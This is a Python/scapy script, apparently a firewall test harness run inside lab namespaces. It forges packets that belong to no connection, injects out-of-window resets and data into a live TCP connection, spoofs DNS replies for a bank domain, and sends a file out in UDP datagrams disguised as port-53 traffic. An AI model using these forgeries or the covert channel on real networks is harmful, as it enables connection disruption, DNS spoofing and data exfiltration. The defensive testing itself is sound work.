#!/usr/bin/python3
"""Packets that no honest program sends. Runs inside the namespaces of record.sh.

    forge.py probes FROM TO            packets that belong to no connection, to TO's open and closed ports
    forge.py live FROM TO              a real connection to TO's port 80, and forged segments aimed into it
    forge.py datagrams FROM TO FILE    FILE in UDP datagrams from port 53 to TO's port 40053 (no scapy)

What is forged leaves with TTL 124 and meets the wire in front of the server with TTL 123.
"""
import socket
import sys
import time

TTL = 124
DEVICE = "eth0"


def scapy_layers():
    import logging

    logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
    import scapy.all as scapy

    scapy.conf.verb = 0
    scapy.conf.checkIPaddr = False
    return scapy


def frame(scapy, source, destination):
    """Ethernet and IP up to the router, which is asked for by name: scapy does not know the neighbours."""
    router = "02:00:00:00:01:01"
    ether = scapy.Ether(src="02:00:00:00:01:10", dst=router)
    if ":" in source:
        return ether / scapy.IPv6(src=source, dst=destination, hlim=TTL)
    return ether / scapy.IP(src=source, dst=destination, ttl=TTL, id=0x5151)


def probes(source, target):
    scapy = scapy_layers()
    base = frame(scapy, source, target)
    six = ":" in source

    def tcp(sport, dport, flags, **fields):
        return base / scapy.TCP(sport=sport, dport=dport, flags=flags, seq=0x1000, window=1024, **fields)

    packets = [
        # to the open port, no connection behind any of them
        tcp(61001, 80, "SA", ack=0x2000),
        tcp(61002, 80, "R"),
        tcp(61003, 80, "RA", ack=0x2000),
        tcp(61004, 80, "PA", ack=0x2000) / b"GET /admin HTTP/1.1\r\nHost: www.example.net\r\n\r\n",
        tcp(61005, 80, "FSRPAU", ack=0x2000),
        tcp(61006, 80, "SF"),
        tcp(61007, 80, "SR"),
        tcp(61008, 80, "FPU"),
        tcp(61009, 80, ""),
        tcp(53, 53, "SA", ack=0x2000),
        tcp(61010, 22, "A", ack=0x2000),
        # replies that nobody asked for, to ports that nobody offers
        tcp(80, 45000, "SA", ack=0x2000),
        tcp(443, 45001, "A", ack=0x2000),
        base / scapy.UDP(sport=53, dport=45002) / dns_reply(scapy),
    ]
    # to a service that takes datagrams from anybody: no state table can tell it from a question
    packets.append(base / scapy.UDP(sport=53, dport=53) / dns_reply(scapy))
    if six:
        quoted = scapy.IPv6(src=target, dst=source) / scapy.TCP(sport=45000, dport=443, flags="A", seq=1, ack=1)
        udp = scapy.IPv6(src=target, dst=source) / scapy.UDP(sport=45003, dport=53) / b"question"
        packets += [
            base / scapy.ICMPv6EchoReply(id=0x77, seq=1, data=b"an answer to no question"),
            base / scapy.ICMPv6DestUnreach(code=4) / udp,
            base / scapy.ICMPv6PacketTooBig(mtu=1280) / quoted,
            base / scapy.ICMPv6TimeExceeded(code=0) / quoted,
        ]
    else:
        quoted = scapy.IP(src=target, dst=source) / scapy.TCP(sport=45000, dport=443, flags="A", seq=1, ack=1)
        udp = scapy.IP(src=target, dst=source) / scapy.UDP(sport=45003, dport=53) / b"question"
        packets += [
            base / scapy.ICMP(type=0, id=0x77, seq=1) / b"an answer to no question",
            base / scapy.ICMP(type=3, code=3) / udp,
            base / scapy.ICMP(type=3, code=4, nexthopmtu=1280) / quoted,
            base / scapy.ICMP(type=11, code=0) / quoted,
        ]
    wire = scapy.conf.L2socket(iface=DEVICE)
    for packet in packets:
        wire.send(packet)
        time.sleep(0.02)
    wire.close()


def dns_reply(scapy):
    return scapy.DNS(
        id=0x4242, qr=1, aa=1, qd=scapy.DNSQR(qname="bank.example.net"),
        an=scapy.DNSRR(rrname="bank.example.net", ttl=3600, rdata="198.51.100.66"),
    )


def live(source, target):
    """The connection is watched so that the forger knows what no blind one would: where its windows are."""
    scapy = scapy_layers()
    seen = []
    sniffer = scapy.AsyncSniffer(
        iface=DEVICE, filter=f"tcp port 80 and host {source}", prn=seen.append, store=False,
    )
    sniffer.start()
    time.sleep(0.5)
    family = socket.AF_INET6 if ":" in source else socket.AF_INET
    connection = socket.socket(family, socket.SOCK_STREAM)
    connection.settimeout(5)
    connection.bind((source, 0))
    connection.connect((target, 80))
    port = connection.getsockname()[1]
    get(connection)
    time.sleep(0.3)

    last = [packet for packet in seen if packet[scapy.TCP].sport == port][-1]
    sequence, acknowledged = last[scapy.TCP].seq, last[scapy.TCP].ack
    base = frame(scapy, source, target)
    far = 0x20000000

    def tcp(flags, seq, ack):
        number = (sequence + seq) % 2**32
        return base / scapy.TCP(
            sport=port, dport=80, flags=flags, seq=number, ack=(acknowledged + ack) % 2**32, window=501,
        )

    wire = scapy.conf.L2socket(iface=DEVICE)
    for packet in [
        tcp("R", far, 0),  # a reset above the window
        tcp("RA", far, 0),
        tcp("R", -20, 0),  # a reset below what the server has acknowledged
        tcp("PA", far, 0) / b"injected above the window",
        tcp("A", 0, far),  # acknowledges data never sent
        tcp("FA", far, 0),
        tcp("FPU", 0, 0),  # exact numbers, impossible flags
        tcp("", 0, 0),
    ]:
        wire.send(packet)
        time.sleep(0.6)  # the server answers such a segment at most twice a second
    wire.close()
    get(connection)  # it lived through all of it
    connection.close()
    time.sleep(0.3)
    sniffer.stop()


def get(connection):
    connection.sendall(b"GET / HTTP/1.1\r\nHost: www.example.net\r\n\r\n")
    answer = b""
    while b"protected server.\n" not in answer:
        data = connection.recv(4096)
        if not data:
            sys.exit("forge.py: the attacked connection died")
        answer += data


def datagrams(source, target, path):
    family = socket.AF_INET6 if ":" in source else socket.AF_INET
    sender = socket.socket(family, socket.SOCK_DGRAM)
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sender.bind((source, 53))
    with open(path, "rb") as stolen:
        while data := stolen.read(900):
            sender.sendto(data, (target, 40053))
            time.sleep(0.05)


if __name__ == "__main__":
    {"probes": probes, "live": live, "datagrams": datagrams}[sys.argv[1]](*sys.argv[2:])
